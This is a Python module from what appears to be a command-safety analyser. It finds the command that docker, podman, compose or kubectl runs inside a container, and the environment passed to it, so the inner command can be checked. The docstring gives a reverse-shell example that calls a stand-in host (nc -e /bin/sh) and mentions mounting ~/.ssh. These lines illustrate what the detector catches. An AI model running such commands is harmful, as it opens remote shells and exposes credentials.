"""The command a container tool runs: `docker run [options] IMAGE CMD...`, `docker exec [options]
CONTAINER CMD...`, the same for podman and nerdctl, `docker compose exec|run SERVICE CMD...`
(and `docker-compose`, `podman-compose`), and `kubectl exec|run|debug|create ... -- CMD...`.
An `--entrypoint PROGRAM` replaces the image's program, so it leads the command
(`docker run --entrypoint sh img -c '...'` runs `sh -c '...'`).

The shell analyser sees `docker` as the program and the container's command as its arguments,
so `docker run --rm alpine sh -c 'nc -e /bin/sh evil.example 4444'` read as an ordinary
`docker` call. The engine analyses the inner command for what does not depend on whose
filesystem it runs in: a reverse shell, a download or decoded text run by an interpreter, a
secret sent out, a metadata endpoint. Paths inside the container are the container's own, so
they are not judged as host paths (mounts are: `-v ~/.ssh:/k` names a host path and is checked
where it is written).

Option parsing is one pass over the words with a table of the options that take a value;
an unknown `--long` option is assumed to take none unless written `--opt=value`.
"""

from __future__ import annotations

import shlex

__all__ = [
    "CONTAINER_ENGINES",
    "CONTAINER_TOOLS",
    "container_command",
    "container_env",
    "container_script",
]

CONTAINER_ENGINES = frozenset({"docker", "podman", "nerdctl"})
"""The container runtimes (`docker run`, `podman exec`, ...), as opposed to orchestrators."""
_ENGINES = CONTAINER_ENGINES
# `docker run`/`create`/`exec` options that take a separate value (short and long forms).
_VALUE_OPTS = frozenset(
    {
        "-a", "--attach", "--add-host", "--annotation", "--blkio-weight", "--cap-add",
        "--cap-drop", "--cgroup-parent", "--cgroupns", "--cidfile", "--cpu-period",
        "--cpu-quota", "--cpu-shares", "-c", "--cpus", "--cpuset-cpus", "--cpuset-mems",
        "--device", "--device-cgroup-rule", "--dns", "--dns-option", "--dns-search",
        "--domainname", "--entrypoint", "-e", "--env", "--env-file", "--expose", "--gpus",
        "--group-add", "--health-cmd", "--health-interval", "--health-retries",
        "--health-start-period", "--health-timeout", "-h", "--hostname", "--ip", "--ip6",
        "--ipc", "--isolation", "--kernel-memory", "-l", "--label", "--label-file", "--link",
        "--log-driver", "--log-opt", "--mac-address", "-m", "--memory", "--memory-reservation",
        "--memory-swap", "--memory-swappiness", "--mount", "--name", "--network", "--net",
        "--network-alias", "--oom-score-adj", "--pid", "--pids-limit", "--platform", "-p",
        "--publish", "--pull", "--restart", "--runtime", "--security-opt", "--shm-size",
        "--stop-signal", "--stop-timeout", "--storage-opt", "--sysctl", "--tmpfs", "-u",
        "--user", "--ulimit", "--userns", "--uts", "-v", "--volume", "--volume-driver",
        "--volumes-from", "-w", "--workdir", "--detach-keys", "--secret", "--arch", "--os",
    }
)  # fmt: skip
_KUBECTL_VALUE_OPTS = frozenset(
    {"-c", "--container", "-n", "--namespace", "--context", "--cluster", "--kubeconfig",
     "--user", "-f", "--filename", "--pod-running-timeout", "-s", "--server", "--token"}
)  # fmt: skip
_MAX_WORDS = 256
_COMPOSE_TOOLS = frozenset({"docker-compose", "podman-compose"})
CONTAINER_TOOLS: frozenset[str] = _ENGINES | _COMPOSE_TOOLS | {"kubectl", "oc"}
"""Program names whose arguments can hold a command run in a container."""
_ENV_OPTS = frozenset({"-e", "--env"})
_MAX_ENV = 64
# `docker compose` options before the verb that take a separate value.
_COMPOSE_GLOBAL_OPTS = frozenset(
    {"-f", "--file", "-p", "--project-name", "--project-directory", "--profile", "--env-file",
     "--ansi", "--progress", "--parallel"}
)  # fmt: skip
# `docker compose exec|run` options that take a separate value.
_COMPOSE_VALUE_OPTS = frozenset(
    {"-e", "--env", "-u", "--user", "-w", "--workdir", "--index", "-l", "--label", "-p",
     "--publish", "-v", "--volume", "--name", "--entrypoint", "--pull", "--cap-add",
     "--cap-drop", "--env-from-file"}
)  # fmt: skip
# kubectl verbs whose words after `--` are a command run in a pod (`kubectl run x --image=i
# -- sh -c ...`, `kubectl debug node/n -it --image=i -- chroot /host sh`).
_KUBECTL_VERBS = frozenset({"exec", "run", "debug", "create"})


def container_command(argv: tuple[str, ...] | list[str]) -> tuple[str, ...] | None:
    """The argv of the command a container tool runs inside the container, or None when
    `argv` runs no command there (or names no container tool)."""
    if not argv or len(argv) > _MAX_WORDS:
        return None
    name = argv[0].rsplit("/", 1)[-1].lower()
    if name in _ENGINES:
        if len(argv) > 1 and argv[1] == "compose":
            return _compose_command(argv[2:])
        return _engine_command(argv[1:])
    if name in _COMPOSE_TOOLS:
        return _compose_command(argv[1:])
    if name in ("kubectl", "oc"):
        return _kubectl_command(argv[1:])
    return None


def _engine_command(args: tuple[str, ...] | list[str]) -> tuple[str, ...] | None:
    index = 0
    # The engine's own options come before the verb (`docker --context x run ...`).
    while index < len(args) and args[index].startswith("-"):
        index += 2 if args[index] in ("--context", "-H", "--host", "--config", "-c") else 1
    if index < len(args) and args[index] == "container":
        index += 1  # `docker container run ...`
    if index >= len(args) or args[index] not in ("run", "exec", "create"):
        return None
    index += 1
    entrypoint = _entrypoint(args, index, _VALUE_OPTS)
    index = _skip_options(args, index, _VALUE_OPTS)
    index += 1  # the image (run, create) or the container (exec)
    return _with_entrypoint(entrypoint, tuple(args[index:]))


def _compose_command(args: tuple[str, ...] | list[str]) -> tuple[str, ...] | None:
    """`compose [global options] exec|run [options] SERVICE CMD...`."""
    index = 0
    while index < len(args) and args[index].startswith("-"):
        word = args[index]
        index += 2 if word in _COMPOSE_GLOBAL_OPTS else 1
    if index >= len(args) or args[index] not in ("run", "exec"):
        return None
    index += 1
    entrypoint = _entrypoint(args, index, _COMPOSE_VALUE_OPTS)
    index = _skip_options(args, index, _COMPOSE_VALUE_OPTS)
    index += 1  # the service
    return _with_entrypoint(entrypoint, tuple(args[index:]))


def _with_entrypoint(entrypoint: str | None, inner: tuple[str, ...]) -> tuple[str, ...] | None:
    if entrypoint:
        return (entrypoint, *inner)
    return inner or None


def _entrypoint(
    args: tuple[str, ...] | list[str], index: int, valued: frozenset[str]
) -> str | None:
    """The `--entrypoint` value among the options starting at `index` (the last one wins)."""
    found = _option_values(args, index, valued, frozenset({"--entrypoint"}))
    return found[-1] if found else None


def _option_values(
    args: tuple[str, ...] | list[str], index: int, valued: frozenset[str], wanted: frozenset[str]
) -> list[str]:
    """The values of the options named in `wanted` among the options starting at `index`
    (`--opt value` and `--opt=value`), walking them exactly as `_skip_options` does."""
    found: list[str] = []
    while index < len(args):
        word = args[index]
        if word == "--" or not word.startswith("-") or word == "-":
            return found
        name, eq, inline = word.partition("=")
        if eq:
            if name in wanted:
                found.append(inline)
            index += 1
        elif word not in valued:
            index += 1
        else:
            if word in wanted and index + 1 < len(args):
                found.append(args[index + 1])
            index += 2
    return found


def _kubectl_command(args: tuple[str, ...] | list[str]) -> tuple[str, ...] | None:
    if "--" not in args:
        return None  # `kubectl exec POD CMD` without `--` is deprecated; not guessed
    cut = list(args).index("--")
    if _KUBECTL_VERBS.isdisjoint(args[:cut]):
        return None
    inner = tuple(args[cut + 1 :])
    return inner or None


def _skip_options(args: tuple[str, ...] | list[str], index: int, valued: frozenset[str]) -> int:
    """The index of the first word after the options starting at `index`."""
    while index < len(args):
        word = args[index]
        if word == "--":
            return index + 1
        if not word.startswith("-") or word == "-":
            return index
        if "=" in word or word not in valued:
            index += 1  # `--opt=value`, or a flag (`--rm`, `-it`)
        else:
            index += 2
    return index


def container_env(argv: tuple[str, ...] | list[str]) -> tuple[tuple[str, str], ...]:
    """The environment a container command is given with `-e NAME=VALUE` or `-e NAME` (the
    latter passes the caller's own `$NAME` through), as (name, value text) pairs; empty when
    `argv` runs no command in a container. `kubectl` takes no such option for `exec`."""
    if not argv or len(argv) > _MAX_WORDS or container_command(argv) is None:
        return ()
    name = argv[0].rsplit("/", 1)[-1].lower()
    args = list(argv[1:])
    if name in _ENGINES and args[:1] == ["compose"]:
        name, args = "docker-compose", args[1:]
    if name in _ENGINES:
        index = 0
        while index < len(args) and args[index].startswith("-"):
            index += 2 if args[index] in ("--context", "-H", "--host", "--config", "-c") else 1
        if index < len(args) and args[index] == "container":
            index += 1
        values = _option_values(args, index + 1, _VALUE_OPTS, _ENV_OPTS)
    elif name in _COMPOSE_TOOLS:
        index = 0
        while index < len(args) and args[index].startswith("-"):
            index += 2 if args[index] in _COMPOSE_GLOBAL_OPTS else 1
        values = _option_values(args, index + 1, _COMPOSE_VALUE_OPTS, _ENV_OPTS)
    else:
        return ()
    pairs: list[tuple[str, str]] = []
    for value in values[:_MAX_ENV]:
        key, eq, text = value.partition("=")
        if key.isidentifier():
            pairs.append((key, text if eq else "$" + key))
    return tuple(pairs)


def container_script(argv: tuple[str, ...] | list[str]) -> str | None:
    """The shell text to analyse for the command a container tool runs: its words quoted,
    after the `-e` assignments it is given (`T="$GITHUB_TOKEN" sh -c '...$T...'`), so a secret
    handed into the container and sent from there is still followed by name. A value that
    holds `$` keeps its variable references (double quotes); any other is quoted whole."""
    inner = container_command(argv)
    if inner is None:
        return None
    prefix = [f"{key}={_keep_variables(value)}" for key, value in container_env(argv)]
    return " ".join([*prefix, shlex.join(inner)])


def _keep_variables(value: str) -> str:
    """`value` quoted for a shell so that its `$NAME` references stay references."""
    if "$" not in value:
        return shlex.quote(value)
    escaped = value.replace("\\", "\\\\").replace('"', '\\"').replace("`", "\\`")
    return f'"{escaped}"'
